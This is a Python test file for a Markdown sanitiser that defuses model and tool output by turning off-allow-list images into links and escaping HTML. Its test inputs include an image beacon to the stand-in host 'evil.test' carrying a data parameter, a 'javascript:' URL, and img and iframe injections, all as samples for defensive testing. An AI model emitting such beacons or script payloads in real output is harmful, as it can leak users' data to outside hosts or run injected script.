"""Model and tool text is neutralised before any Markdown view renders it."""

from __future__ import annotations

import pytest

from local2.ui._safe_markdown import neutralise


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            '![chart](http://evil.test:8/x?d=1 "t") now',
            "[image: chart (evil.test)](<http://evil.test:8/x?d=1>) now",
        ),
        ("![](<http://h/p q>)", "[image: image (h)](<http://h/p%20q>)"),
        ("![b][ref] and ![c]", "[image: b][ref] and [image: c]"),
        ("![d](data:image/png;base64,AAA)", "[image: d]"),
        ("![x](javascript:alert(1))", "[image: x]"),
        ('<img src="http://e/x">', '&lt;img src="http://e/x">'),
        ("<iframe src=//e></iframe>", "&lt;iframe src=//e>&lt;/iframe>"),
        ("<!-- hidden --> <?php ?>", "&lt;!-- hidden --> &lt;?php ?>"),
        ("a < b and 3<4, <https://ok.example/x>", "a < b and 3<4, <https://ok.example/x>"),
    ],
)
def test_images_become_links_and_html_becomes_text(text: str, expected: str) -> None:
    assert neutralise(text, []) == expected


def test_code_is_left_exactly_as_written() -> None:
    text = "Use `<img src=x>` or\n```html\n<img src=http://e/x>\n![a](http://e/y)\n```\n"
    assert neutralise(text, []) == text


def test_text_after_a_code_block_is_neutralised_again() -> None:
    text = "~~~\n<b>kept</b>\n~~~\n![a](http://e/y)"
    assert neutralise(text, []) == "~~~\n<b>kept</b>\n~~~\n[image: a (e)](<http://e/y>)"


def test_allow_listed_hosts_keep_their_images() -> None:
    text = "![ok](https://upload.example.org/a.png) ![no](https://other.example/b.png)"
    out = neutralise(text, ["upload.example.org", "*.cdn.example"])
    assert out.startswith("![ok](https://upload.example.org/a.png)")
    assert "[image: no (other.example)]" in out
    assert neutralise("![s](https://a.cdn.example/x.png)", ["*.cdn.example"]).startswith("![s]")
    assert neutralise("![p](http://h.example:8080/x.png)", ["h.example:8080"]).startswith("![p]")


def test_a_citation_of_a_documents_page_keeps_its_page() -> None:
    """``#page=N`` opens a PDF at that page in the browser: the link keeps it."""
    text = "Restored in 1980 ([page 9](https://example.org/report.pdf#page=9))."
    assert neutralise(text, []) == text
    bare = "See https://example.org/report.pdf#page=12 for the table."
    assert neutralise(bare, []) == bare
